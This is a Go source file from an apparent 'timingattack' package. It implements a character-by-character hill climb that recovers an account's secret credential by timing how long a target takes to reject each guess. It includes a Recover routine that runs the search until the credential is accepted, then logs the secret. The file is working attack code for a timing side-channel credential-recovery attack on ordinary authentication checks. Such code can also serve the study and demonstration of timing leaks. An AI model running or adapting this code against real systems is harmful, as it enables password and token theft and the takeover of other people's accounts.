package timingattack

import (
	"context"
	"fmt"
	"strings"
	"time"

	"go.uber.org/zap"
)

// Search is the character-recovery hill climb, exposed one character trial
// at a time.
//
// Positions are visited cyclically and every alphabet character is tried at
// each position in alphabet order. A trial first asks the oracle whether the
// mutated candidate is the credential; if not, the candidate and the current
// guess are both timed and the candidate replaces the guess when its
// rejection is strictly slower. The scan continues at the same position
// against the new guess.
//
// A Search never stops on its own. Noise can make it oscillate or stall, and
// an account unknown to the target never succeeds, so callers bound it (see
// Recover, WithMaxIterations and WithTimeBudget).
type Search struct {
	cfg     *Config
	target  target
	sampler *Sampler
	length  int

	guess     []byte
	position  int
	charIndex int

	iteration int
	adopted   int

	cachedNs   float64
	cacheValid bool
	found      bool
	last       Step
	logger     *zap.Logger
}

// NewSearch prepares a refinement of a credential of the given length.
func NewSearch(oracle Oracle, account string, length int, opts ...Option) (*Search, error) {
	if length <= 0 {
		return nil, fmt.Errorf("%w: length must be positive, got %d", ErrInvalidArgument, length)
	}
	cfg, err := newConfig(opts)
	if err != nil {
		return nil, err
	}
	return newSearch(cfg, target{oracle: oracle, account: account}, length)
}

func newSearch(cfg *Config, t target, length int) (*Search, error) {
	s := &Search{
		cfg:     cfg,
		target:  t,
		sampler: cfg.sampler(),
		length:  length,
		logger:  cfg.logger.With(zap.String("account", t.account)),
	}
	guess := cfg.initialGuess
	if guess == "" {
		guess = RandomString(cfg.rng, cfg.alphabet, length)
	}
	if err := s.Restart(guess); err != nil {
		return nil, err
	}
	return s, nil
}

// Restart resets the search to guess, position 0 and the first alphabet
// character. Counters are kept. The guess must have the search length and
// use only alphabet characters.
func (s *Search) Restart(guess string) error {
	if len(guess) != s.length {
		return fmt.Errorf("%w: guess has length %d, want %d", ErrInvalidConfig, len(guess), s.length)
	}
	for i := 0; i < len(guess); i++ {
		if strings.IndexByte(s.cfg.alphabet, guess[i]) < 0 {
			return fmt.Errorf("%w: guess contains %q outside the alphabet", ErrInvalidConfig, guess[i])
		}
	}
	s.guess = []byte(guess)
	s.position = 0
	s.charIndex = 0
	s.cacheValid = false
	s.found = false
	return nil
}

// Guess returns the current best guess.
func (s *Search) Guess() string {
	return string(s.guess)
}

// Done reports whether the oracle has accepted a candidate.
func (s *Search) Done() bool {
	return s.found
}

// Iterations returns the number of character trials performed so far.
func (s *Search) Iterations() int {
	return s.iteration
}

// Adopted returns the number of mutations accepted on timing evidence.
func (s *Search) Adopted() int {
	return s.adopted
}

// Next performs one character trial. Once the oracle has accepted a
// candidate, Next returns that final step again without further checks.
func (s *Search) Next(ctx context.Context) (Step, error) {
	if s.found {
		return s.last, nil
	}
	if err := ctx.Err(); err != nil {
		return Step{}, err
	}

	pos := s.position
	alt := make([]byte, len(s.guess))
	copy(alt, s.guess)
	alt[pos] = s.cfg.alphabet[s.charIndex]
	candidate := string(alt)

	s.iteration++
	step := Step{Iteration: s.iteration, Position: pos, Candidate: candidate}

	ok, err := s.target.check(ctx, candidate)
	if err != nil {
		return Step{}, err
	}
	if ok {
		s.found = true
		s.guess = alt
		step.Guess = candidate
		step.Found = true
		s.last = step
		s.logger.Info("Candidate accepted",
			zap.String("secret", candidate),
			zap.Int("iterations", s.iteration))
		s.notify(step)
		return step, nil
	}

	altNs, err := s.sampler.Representative(s.target.operation(ctx, candidate))
	if err != nil {
		return Step{}, err
	}
	guessNs := s.cachedNs
	if !s.cfg.cacheBaseline || !s.cacheValid {
		guessNs, err = s.sampler.Representative(s.target.operation(ctx, string(s.guess)))
		if err != nil {
			return Step{}, err
		}
		s.cachedNs, s.cacheValid = guessNs, true
	}
	step.CandidateNs = altNs
	step.GuessNs = guessNs

	if altNs > guessNs {
		s.guess = alt
		s.adopted++
		s.cachedNs = altNs
		step.Accepted = true
		s.logger.Debug("Adopted guess",
			zap.String("guess", candidate),
			zap.Int("position", pos),
			zap.Float64("candidate_ns", altNs),
			zap.Float64("guess_ns", guessNs))
	}
	step.Guess = string(s.guess)

	s.charIndex++
	if s.charIndex == len(s.cfg.alphabet) {
		s.charIndex = 0
		s.position = (s.position + 1) % s.length
		s.cacheValid = false
	}

	s.last = step
	if step.Accepted {
		s.notify(step)
	}
	return step, nil
}

func (s *Search) notify(step Step) {
	if s.cfg.progress != nil {
		s.cfg.progress(step)
	}
}

// Recover runs the hill climb until the oracle accepts a candidate.
//
// Without WithMaxIterations or WithTimeBudget the run is unbounded and only
// ctx can stop it. When a budget runs out, the partial result is returned
// together with ErrBudgetExceeded.
func Recover(ctx context.Context, oracle Oracle, account string, length int, opts ...Option) (*RecoverResult, error) {
	s, err := NewSearch(oracle, account, length, opts...)
	if err != nil {
		return nil, err
	}
	return s.run(ctx)
}

func (s *Search) run(ctx context.Context) (*RecoverResult, error) {
	start := time.Now()
	s.logger.Info("Recovering credential",
		zap.Int("length", s.length),
		zap.String("initial_guess", s.Guess()),
		zap.Bool("cached_baseline", s.cfg.cacheBaseline))

	result := func() *RecoverResult {
		r := &RecoverResult{
			Found:       s.found,
			Guess:       s.Guess(),
			Iterations:  s.iteration,
			Adopted:     s.adopted,
			ElapsedTime: time.Since(start),
		}
		if s.found {
			r.Secret = r.Guess
		}
		return r
	}

	for !s.found {
		if s.cfg.maxIterations > 0 && s.iteration >= s.cfg.maxIterations {
			return result(), fmt.Errorf("%w: %d iterations", ErrBudgetExceeded, s.iteration)
		}
		if s.cfg.timeBudget > 0 && time.Since(start) > s.cfg.timeBudget {
			return result(), fmt.Errorf("%w: %v elapsed", ErrBudgetExceeded, s.cfg.timeBudget)
		}
		if _, err := s.Next(ctx); err != nil {
			return result(), err
		}
	}
	return result(), nil
}
